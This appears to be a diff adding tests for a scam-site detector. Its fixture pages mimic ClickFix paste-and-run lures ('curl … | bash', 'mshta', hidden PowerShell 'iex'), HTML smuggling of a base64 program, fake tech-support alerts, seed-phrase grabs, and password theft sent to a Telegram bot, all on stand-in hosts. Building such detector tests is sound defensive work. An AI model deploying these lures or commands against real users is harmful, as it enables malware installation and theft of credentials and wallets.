@@ -1,0 +1,218 @@
+import { readFileSync } from 'node:fs';
+import { describe, expect, it } from 'vitest';
+import { judgeSite, scoreTrust, TRAPS, type TrapName } from '@vedette/web/site';
+import { evidenceOf, type Shape } from './evidence.ts';
+
+const page = (title: string, body: string, more: Partial<Shape> = {}): Shape => ({ html: `<title>${title}</title><body>${body}`, ...more });
+const script = (code: string): string => `<script>${code}</script>`;
+const PASSWORD = '<form action="in.php" method="post"><input name="user"><input type="password" name="pass"></form>';
+const PHRASE = '<h2>Enter your 12-word recovery phrase</h2><form><textarea name="phrase"></textarea><button>Go on</button></form>';
+const PRESS = '<p>Press the Windows key + R, press Ctrl + V, and press Enter.</p>';
+const COPIES = (what: string): string => script(`button.onclick = () => navigator.clipboard.writeText(${what})`);
+const ALARM =
+  '<h1>Your computer has been locked</h1><p>Trojan spyware detected. Do not restart your computer. Call Microsoft support: +1-855-555-0148</p>';
+const HOLDS = script('onbeforeunload = () => ""; document.documentElement.requestFullscreen(); document.getElementById("alarm").play()');
+const BOT = 'fetch("https://api.telegram.org/bot123:abc/sendMessage?text=" + form.pass.value)';
+const PROGRAM = `"TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAA"`;
+
+const CASES: Record<TrapName, { finds: [what: string, Shape, evidence: RegExp][]; misses: [what: string, Shape][] }> = {
+  paste_and_run: {
+    finds: [
+      ['a proof of being human', page('Verify you are human', `${PRESS}${COPIES('text')}`), /as a proof \("Verify you/],
+      [
+        'a command that is not shown',
+        page('Your document', `${PRESS}${COPIES(`'powershell -w hidden -c iex'`)}`),
+        /does not show \("powershell -w/,
+      ],
+      [
+        'in a handler',
+        page('CAPTCHA', `${PRESS}<button onclick="navigator.clipboard.writeText('mshta https://a.test/x')">I am no robot</button>`),
+        /mshta/,
+      ],
+      [
+        'of a Mac',
+        page('Are you a robot?', `<p>Open Terminal, paste and press Return.</p>${COPIES(`'curl -fsSL https://a.test/x | bash'`)}`),
+        /curl/,
+      ],
+    ],
+    misses: [
+      [
+        'a manual',
+        page(
+          'Install on Windows',
+          `<p>Press Windows + R, type powershell, paste this: <code>powershell -c "irm a.test/i.ps1 | iex"</code></p>${COPIES('code.innerText')}`,
+        ),
+      ],
+      [
+        'a manual with its command in a script',
+        page(
+          'Install',
+          `<p>Open a terminal and paste: <code>curl -fsSL https://a.test/i</code></p>${COPIES(`'curl -fsSL https://a.test/i'`)}`,
+        ),
+      ],
+      [
+        'an article about it',
+        page(
+          'How ClickFix works',
+          `<p>The page says: verify you are human, press Windows + R and Ctrl + V.</p>${'<p>It has been seen since 2024.</p>'.repeat(150)}${COPIES('link')}`,
+        ),
+      ],
+      ['a captcha', page('Are you a robot?', '<p>Tick the box.</p>')],
+    ],
+  },
+  smuggled_program: {
+    finds: [
+      [
+        'saved by a click of its own',
+        page('Invoice', script(`const b = new Blob([atob(${PROGRAM})]); a.href = URL.createObjectURL(b); a.click()`)),
+        /program/,
+      ],
+    ],
+    misses: [
+      ['a text about such programs', page('Base64', `<p>A program begins with ${PROGRAM}.</p>`)],
+      ['a chart that is saved', page('Chart', script('a.href = URL.createObjectURL(new Blob([svg])); a.click()'))],
+    ],
+  },
+  fake_alert: {
+    finds: [
+      [
+        'with a full screen',
+        page('Security warning', `${ALARM}${HOLDS}`),
+        /"Your computer has been locked", has the number \+1-855-555-0148, and fills the screen/,
+      ],
+      [
+        'with sound, and without a menu',
+        page('Alert', `${ALARM}<audio autoplay src="a.mp3"></audio><body oncontextmenu="return false">`),
+        /takes the menu away, sounds an alarm/,
+      ],
+    ],
+    misses: [
+      ['an article about it', page('Tech support scams', `<p>The page says:</p>${ALARM}`)],
+      ['a workshop', page('We mend computers', '<p>Is your computer infected? Call our support: +1-855-555-0148</p>')],
+      [
+        'a game',
+        page(
+          'Space',
+          `<p>Do not close this window. Call +1-855-555-0148 for support.</p>${script('c.requestFullscreen(); c.onkeydown = move')}`,
+        ),
+      ],
+    ],
+  },
+  wallet_phrase: {
+    finds: [
+      ['in the name of a wallet', page('MetaMask: restore', PHRASE), /in the name of metamask/],
+      [
+        'sent to a script of the server',
+        page('Restore', PHRASE.replace('<form>', '<form action="send.php" method="post">')),
+        /sends it to send\.php/,
+      ],
+      [
+        'sent to a chat',
+        page('Restore', `${PHRASE}${script('fetch("https://api.telegram.org/bot1:a/sendMessage?text=" + phrase)')}`),
+        /a bot of Telegram/,
+      ],
+      [
+        'of any of several',
+        page('Wallets', `<p>Validate your wallet: MetaMask, Ledger, Trezor</p>${PHRASE}`),
+        /of any of metamask, ledger, trezor/,
+      ],
+      [
+        'word by word',
+        page(
+          'Ledger Live',
+          `<p>Your recovery phrase</p><form>${'<input name="x">'.repeat(2)}${Array.from({ length: 12 }, (_, i) => `<input name="word${i + 1}">`).join('')}</form>`,
+        ),
+        /ledger/,
+      ],
+    ],
+    misses: [
+      ['a tool that works in the page', page('Mnemonic code converter', PHRASE)],
+      ['a warning', page('MetaMask: stay safe', '<p>Never tell anyone your recovery phrase.</p><form><input name="email"></form>')],
+      ['the wallet itself', page('MetaMask: restore', PHRASE, { host: 'metamask.io', more: { domain: 'metamask.io' } })],
+      ['a form for words of another kind', page('Quiz', '<form action="quiz.php"><textarea name="answer"></textarea></form>')],
+    ],
+  },
+  secret_sink: {
+    finds: [
+      ['into a chat', page('Staff', `${PASSWORD}${script(BOT)}`), /a password, and it goes to a bot of Telegram/],
+      [
+        'to an address that is hidden',
+        page('Staff', `${PASSWORD}${script('send(atob("aHR0cHM6Ly9hcGkudGVsZWdyYW0ub3JnL2JvdDE="), pass)')}`),
+        /Telegram/,
+      ],
+      ['by a service for forms', page('Staff', PASSWORD.replace('in.php', 'https://formspree.io/f/abc')), /a mailbox/],
+      ['by mail', page('Staff', PASSWORD.replace('in.php', 'mailto:a@b.test')), /a mailbox/],
+    ],
+    misses: [
+      [
+        'a message to the owner',
+        page(
+          'Write to us',
+          `<form><input name="name"><textarea name="message"></textarea></form>${script(BOT.replace('form.pass', 'form.message'))}`,
+        ),
+      ],
+      ['a chat beside a log-in', page('Staff', `${PASSWORD}${script('notify("https://api.telegram.org/bot1:a/sendMessage?text=visit")')}`)],
+      ['a log-in', page('Staff', PASSWORD)],
+    ],
+  },
+  credential_trap: {
+    finds: [
+      [
+        'by its title',
+        page('Log in to your PayPal account', PASSWORD),
+        /it calls itself paypal: Log in to your PayPal account; a form to in\.php asks for a password/,
+      ],
+      [
+        'by its canonical URL',
+        page('Hello', `<link rel="canonical" href="https://www.reddit.com/login">${PASSWORD}`),
+        /it says that it is at www\.reddit\.com/,
+      ],
+      [
+        'by its style sheets',
+        page('Hello', `<link rel="stylesheet" href="https://github.githubassets.com/a.css">${PASSWORD}`),
+        /those of github\.githubassets\.com/,
+      ],
+      [
+        'in a field of text',
+        page('Netflix', '<form action="a.php"><input name="usr"><input name="psw" placeholder="Password"></form>'),
+        /asks for a password/,
+      ],
+      ['a card', page('USPS: your parcel', '<form action="a.php"><input placeholder="Card number"></form>'), /asks for a card/],
+      ['a national number', page('Netflix: confirm', '<form action="a.php"><input name="ssn"></form>'), /asks for a national number/],
+    ],
+    misses: [
+      ['a choir', page('The village choir', PASSWORD)],
+      ['a search', page('Netflix in numbers', '<form><input name="q" placeholder="Search"></form>')],
+    ],
+  },
+};
+
+const capsOf = async (shape: Shape) => {
+  const evidence = await evidenceOf(shape);
+  const verdict = judgeSite(evidence);
+  return { verdict, ...scoreTrust(evidence, verdict) };
+};
+
+describe.each(Object.entries(CASES) as [TrapName, (typeof CASES)[TrapName]][])('%s', (name, { finds, misses }) => {
+  it.each(finds)('finds %s, says by what, and caps trust', async (_what, shape, found) => {
+    const { factors, result, verdict } = await capsOf(shape);
+    expect(factors.find(({ factor }) => factor === `cap_${name}`)?.detail).toMatch(found);
+    expect(result).toBeLessThanOrEqual(TRAPS[name].cap);
+    expect(verdict.checks.is_heuristic_pattern).toBe(true);
+  });
+
+  it.each(misses)('does not accuse %s', async (_what, shape) => {
+    const { factors } = await capsOf(shape);
+    expect(factors.filter(({ factor }) => factor.slice(4) in TRAPS)).toEqual([]);
+  });
+});
+
+it('docs/site-trust.md has every trap with its cap, its sentence and its advice', () => {
+  const docs = readFileSync(new URL('../../../docs/site-trust.md', import.meta.url), 'utf8');
+  const rows = [...docs.matchAll(/^\| `(\w+)` \| (\d+) \| (.+?) \| (.+?) \| .+ \|$/gm)].map(([, name, cap, says, advice]) => [
+    name,
+    { cap: Number(cap), says, advice },
+  ]);
+  const traps = Object.entries(TRAPS).map(([name, { cap, says, advice }]) => [name, { cap, says, advice }]);
+  expect(Object.fromEntries(rows)).toEqual(Object.fromEntries(traps));
+});
